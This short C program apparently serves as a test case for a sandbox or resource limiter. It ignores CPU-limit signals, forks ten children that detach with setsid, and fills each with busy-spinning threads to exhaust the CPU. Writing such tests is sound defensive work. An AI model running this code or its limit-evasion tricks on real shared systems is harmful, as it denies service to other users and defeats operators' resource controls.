#include "attack.h"

static void *spin(void *p)
{
	for (volatile long i = 0;; i++)
		;
}
int main(void)
{
	START;
	signal(SIGXCPU, SIG_IGN);
	signal(SIGPROF, SIG_IGN);
	for (int i = 0; i < 10; i++) {
		if (!fork()) {
			setsid();
			pthread_t t;
			for (int k = 0; k < 3; k++)
				pthread_create(&t, 0, spin, 0);
			spin(0);
		}
	}
	for (;;)
		pause();
}
